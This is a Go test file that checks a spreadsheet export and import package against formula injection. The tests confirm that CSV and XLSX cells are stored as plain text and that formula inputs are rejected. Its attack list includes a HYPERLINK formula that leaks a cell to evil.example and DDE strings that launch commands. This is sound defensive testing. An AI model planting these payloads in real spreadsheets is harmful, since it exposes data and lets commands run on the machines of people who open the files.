package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/musterhr/hr"
	"github.com/musterhr/hr/examples/server/internal/sheet"
)

var attacks = []string{
	`=HYPERLINK("https://evil.example?x="&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", `"=1+1`, "＝1+1",
}

// No cell of a CSV that was written begins like a formula, and what was a text is still to be read behind the apostrophe.
func TestFormulasAreTexts(t *testing.T) {
	table := sheet.Table{Head: []string{"name", "amount"}}
	for _, a := range attacks {
		table.Rows = append(table.Rows, []sheet.Cell{sheet.Text(a), sheet.Amount(decimal.RequireFromString("-12.5"), 2)})
	}
	var b bytes.Buffer
	require.NoError(t, table.WriteCSV(&b))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for i, row := range rows[1:] {
		require.True(t, strings.HasPrefix(row[0], "'"), "%q", row[0])
		require.Equal(t, strings.ReplaceAll(attacks[i], "\r", ""), strings.ReplaceAll(row[0][1:], "\r", ""))
		require.Equal(t, "-12.50", row[1], "a number stays one")
	}
	for _, plain := range []string{"", "Alma", "O'Neil", "a=b", "12-13", "x@example.com"} {
		require.Equal(t, plain, sheet.Harmless(plain))
	}

	b.Reset()
	require.NoError(t, table.WriteXLSX(&b))
	f, err := excelize.OpenReader(&b)
	require.NoError(t, err)
	for i, a := range attacks {
		at, _ := excelize.CoordinatesToCellName(1, i+2)
		formula, err := f.GetCellFormula("Sheet1", at)
		require.NoError(t, err)
		require.Empty(t, formula)
		kind, err := f.GetCellType("Sheet1", at)
		require.NoError(t, err)
		require.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, kind, a)
		amount, err := f.GetCellValue("Sheet1", strings.Replace(at, "A", "B", 1))
		require.NoError(t, err)
		require.Equal(t, "-12.50", amount)
	}
}

func TestReadTellsEverythingAtOnce(t *testing.T) {
	_, err := sheet.Read([]byte("employee,at,salary,at\nE1,2026-10-01,x,y\nE2,=1+1,x\nE3,=cmd(),@x,z\n"), false, []string{"employee", "at", "direction"})
	var told []string
	for _, f := range hr.FieldErrors(err) {
		told = append(told, f.Path+" "+string(f.Rule))
		require.NotContains(t, f.Reason, "cmd")
	}
	require.Equal(t, []string{
		"columns server.csv.column", "columns server.csv.column", "columns server.csv.column", // salary is unknown, at is there twice, direction is missing
		"lines[3] server.csv", "lines[4].at server.csv.formula", "lines[4].salary server.csv.formula",
	}, told)
	for _, bad := range []string{"", "employee\n", "employee\n\"", "\xff\xfe", "a\x00b"} {
		_, err := sheet.Read([]byte(bad), true, []string{"employee"})
		require.Error(t, err, "%q", bad)
	}
	rows, err := sheet.Read([]byte("\ufeffemployee,phone\r\nE1,+91 20 1234\r\n\r\nE2,-\r\n"), true, []string{"employee"})
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, 4, rows[1].Line)
}

func FuzzRead(f *testing.F) {
	f.Add([]byte("employee,at\nE1,2026\n"))
	f.Add([]byte("\"a\n=b"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		rows, err := sheet.Read(raw, true, []string{"employee"})
		require.Equal(t, err == nil, len(rows) > 0 && err == nil)
		for _, r := range rows {
			if err == nil {
				require.NotEmpty(t, r.Cells)
			}
		}
	})
}
